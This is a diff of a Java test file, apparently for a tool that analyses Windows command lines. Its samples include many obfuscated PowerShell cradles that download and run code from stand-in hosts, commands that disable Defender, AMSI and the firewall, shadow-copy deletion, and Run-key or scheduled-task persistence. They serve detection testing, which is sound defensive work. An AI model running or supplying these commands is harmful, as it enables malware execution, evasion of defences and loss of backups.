@@ -41,11 +41,14 @@ class CommandLinesTest {
                         "powershell -nop -w hidden -ep bypass -c \"" + CRADLE + "\"",
                         "powershell -enc " + encoded(CRADLE),
                         "powershell.exe -NonI -EncodedCommand " + encoded(CRADLE),
-                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e " + encoded(CRADLE),
+                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e "
+                                + encoded(CRADLE),
                         "cmd /c powershell -enc " + encoded(CRADLE),
                         "cmd.exe /c p^ow^er^she^ll -c \"" + CRADLE + "\"",
                         "cmd /c \"set x=powershell&& call %x% -enc " + encoded(CRADLE) + "\"",
-                        "cmd /V:ON /C \"set a=pow& set b=ershell& !a!!b! -enc " + encoded(CRADLE) + "\"",
+                        "cmd /V:ON /C \"set a=pow& set b=ershell& !a!!b! -enc "
+                                + encoded(CRADLE)
+                                + "\"",
                         "powershell (New-Object Net.WebClient).DownloadString('http://files.example/a') | IEX",
                         "powershell iwr http://files.example/a -UseBasicParsing | iex",
                         "powershell iex(irm 'http://files.example/a')",
@@ -58,19 +61,41 @@ class CommandLinesTest {
                         "powershell $u=('{1}{0}' -f 'files.example/a','http://');iex (irm $u)",
                         "powershell $u='hXXp://files.example/a' -replace 'XX','tt';iex (irm $u)",
                         "powershell $u='hQQp://files.example/a'.Replace('QQ','tt');iex (irm $u)",
-                        "powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64(CRADLE) + "')))",
-                        "powershell iex([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('" + encoded(CRADLE) + "')))",
+                        "powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
+                                + base64(CRADLE)
+                                + "')))",
+                        "powershell iex([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('"
+                                + encoded(CRADLE)
+                                + "')))",
                         "powershell iex(-join([char[]](" + numbers(CRADLE, 0) + ")))",
                         "powershell iex((" + numbers(CRADLE, 0) + "|%{[char]$_}) -join '')",
-                        "powershell iex((" + numbers(CRADLE, 0) + "|foreach-object{[char][int]$_}) -join '')",
-                        "powershell $s='';foreach($c in " + numbers(CRADLE, 0) + "){$s+=[char]$c};iex $s",
-                        "powershell $b=" + numbers(CRADLE, 0x23) + ";$s='';for($i=0;$i -lt $b.Length;$i++){$s+=[char]($b[$i] -bxor 0x23)};iex $s",
-                        "powershell iex(-join(" + numbers(CRADLE, 0x41) + "|%{[char]($_ -bxor 0x41)}))",
-                        "powershell $s='" + reversed(CRADLE.replace("'", "''")) + "';$a=$s.ToCharArray();[array]::Reverse($a);iex(-join $a)",
-                        "powershell $s='" + reversed(CRADLE.replace("'", "''")) + "';iex($s[-1..-($s.Length)] -join '')",
-                        "powershell iex(-join('" + numbers(CRADLE, 0).replace(",", "x") + "'.Split('x')|%{[char][int]$_}))",
-                        "powershell $m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gzip(CRADLE) + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
-                        "powershell iex((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + deflate(CRADLE) + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())",
+                        "powershell iex(("
+                                + numbers(CRADLE, 0)
+                                + "|foreach-object{[char][int]$_}) -join '')",
+                        "powershell $s='';foreach($c in "
+                                + numbers(CRADLE, 0)
+                                + "){$s+=[char]$c};iex $s",
+                        "powershell $b="
+                                + numbers(CRADLE, 0x23)
+                                + ";$s='';for($i=0;$i -lt $b.Length;$i++){$s+=[char]($b[$i] -bxor 0x23)};iex $s",
+                        "powershell iex(-join("
+                                + numbers(CRADLE, 0x41)
+                                + "|%{[char]($_ -bxor 0x41)}))",
+                        "powershell $s='"
+                                + reversed(CRADLE.replace("'", "''"))
+                                + "';$a=$s.ToCharArray();[array]::Reverse($a);iex(-join $a)",
+                        "powershell $s='"
+                                + reversed(CRADLE.replace("'", "''"))
+                                + "';iex($s[-1..-($s.Length)] -join '')",
+                        "powershell iex(-join('"
+                                + numbers(CRADLE, 0).replace(",", "x")
+                                + "'.Split('x')|%{[char][int]$_}))",
+                        "powershell $m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
+                                + gzip(CRADLE)
+                                + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+                        "powershell iex((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
+                                + deflate(CRADLE)
+                                + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())",
                         "powershell function g($u){(New-Object Net.WebClient).DownloadString($u)} iex (g 'http://files.example/a')",
                         "powershell try{iex (irm http://files.example/a)}catch{}",
                         "powershell [scriptblock]::Create((irm http://files.example/a)).Invoke();iex (irm http://files.example/a)",
@@ -99,36 +124,60 @@ class CommandLinesTest {
                         "powershell Start-BitsTransfer -Source http://files.example/a.exe -Destination C:\\Users\\Public\\a.exe; saps C:\\Users\\Public\\a.exe",
                         "powershell $p=$env:temp+'\\a.exe';foreach($u in 'http://one.example/a','http://two.example/a'){try{(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p;break}catch{}}",
                         "powershell $d=(New-Object Net.WebClient).DownloadData('http://files.example/a');[IO.File]::WriteAllBytes('C:\\Users\\Public\\a.exe',$d);[Diagnostics.Process]::Start('C:\\Users\\Public\\a.exe')")
-                .map(
-                        command ->
-                                new Sample(
-                                        command,
-                                        "net.http",
-                                        "file.write",
-                                        "file=downloaded"));
+                .map(command -> new Sample(command, "net.http", "file.write", "file=downloaded"));
     }
 
     static Stream<Sample> does_what_it_says() {
         return Stream.of(
-                new Sample("powershell Add-MpPreference -ExclusionPath C:\\", "security.change {what=defender"),
-                new Sample("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "security.change"),
-                new Sample("powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "security.change {what=amsi"),
-                new Sample("powershell [Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMA')).EntryPoint.Invoke($null,@())", "how=memory"),
-                new Sample("cmd /c vssadmin delete shadows /all /quiet", "security.change {what=backups"),
+                new Sample(
+                        "powershell Add-MpPreference -ExclusionPath C:\\",
+                        "security.change {what=defender"),
+                new Sample(
+                        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
+                        "security.change"),
+                new Sample(
+                        "powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+                        "security.change {what=amsi"),
+                new Sample(
+                        "powershell [Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMA')).EntryPoint.Invoke($null,@())",
+                        "how=memory"),
+                new Sample(
+                        "cmd /c vssadmin delete shadows /all /quiet",
+                        "security.change {what=backups"),
                 new Sample("cmd /c wmic shadowcopy delete", "what=backups"),
                 new Sample("cmd /c bcdedit /set {default} recoveryenabled No", "what=backups"),
                 new Sample("netsh advfirewall set allprofiles state off", "what=firewall off"),
                 new Sample("sc stop WinDefend", "what=defender service"),
-                new Sample("schtasks /create /sc minute /mo 5 /tn Update /tr \"mshta http://files.example/a\" /f", "schedule.task {command=mshta", "net.http"),
-                new Sample("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f", "registry.write {key=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
-                new Sample("wmic process call create \"powershell -w hidden calc\"", "wmi.exec", "image=powershell"),
-                new Sample("cmd /c echo WScript.Echo(1)> %TEMP%\\a.js & wscript %TEMP%\\a.js", "file.write {path=C:\\Users\\Admin\\AppData\\Local\\Temp\\a.js", "image=wscript"),
+                new Sample(
+                        "schtasks /create /sc minute /mo 5 /tn Update /tr \"mshta http://files.example/a\" /f",
+                        "schedule.task {command=mshta",
+                        "net.http"),
+                new Sample(
+                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f",
+                        "registry.write {key=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
+                new Sample(
+                        "wmic process call create \"powershell -w hidden calc\"",
+                        "wmi.exec",
+                        "image=powershell"),
+                new Sample(
+                        "cmd /c echo WScript.Echo(1)> %TEMP%\\a.js & wscript %TEMP%\\a.js",
+                        "file.write {path=C:\\Users\\Admin\\AppData\\Local\\Temp\\a.js",
+                        "image=wscript"),
                 new Sample("cmd /c %COMSPEC:~0,1%alc.exe", "image=calc"),
                 new Sample("cmd /c \"set a=cXlc&& call %a:X=a%\"", "process.start"),
                 new Sample("rundll32 \\\\files.example@80\\share\\a.dll,Run", "how=remote"),
-                new Sample("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "script.layer"),
-                new Sample("powershell -w hidden -e " + encoded("Start-Sleep 60; calc"), "hidden=yes", "encoded=yes", "sleep {seconds=60", "image=calc"),
-                new Sample("powershell [Environment]::GetFolderPath('Startup') | %{ Set-Content \"$_\\a.bat\" 'calc' }", "Start Menu\\Programs\\Startup\\a.bat"));
+                new Sample(
+                        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
+                        "script.layer"),
+                new Sample(
+                        "powershell -w hidden -e " + encoded("Start-Sleep 60; calc"),
+                        "hidden=yes",
+                        "encoded=yes",
+                        "sleep {seconds=60",
+                        "image=calc"),
+                new Sample(
+                        "powershell [Environment]::GetFolderPath('Startup') | %{ Set-Content \"$_\\a.bat\" 'calc' }",
+                        "Start Menu\\Programs\\Startup\\a.bat"));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -184,7 +233,9 @@ class CommandLinesTest {
 
     @Test
     void what_cannot_be_read_is_said_and_searched_for_plain_words() {
-        Trace trace = read("powershell iex (New-Object Net.WebClient).DownloadString('http://files.example/a') ) ]]] {");
+        Trace trace =
+                read(
+                        "powershell iex (New-Object Net.WebClient).DownloadString('http://files.example/a') ) ]]] {");
 
         assertThat(trace.coverage().unsupported()).isNotEmpty();
         assertThat(Traces.findings(trace)).contains("runs_downloaded_code");
@@ -199,7 +250,9 @@ class CommandLinesTest {
 
     private static void assertShows(Trace trace, Sample sample) {
         for (String expected : sample.expected())
-            assertThat(Traces.lines(trace)).as(describe(trace)).anyMatch(line -> line.contains(expected));
+            assertThat(Traces.lines(trace))
+                    .as(describe(trace))
+                    .anyMatch(line -> line.contains(expected));
     }
 
     private static String describe(Trace trace) {
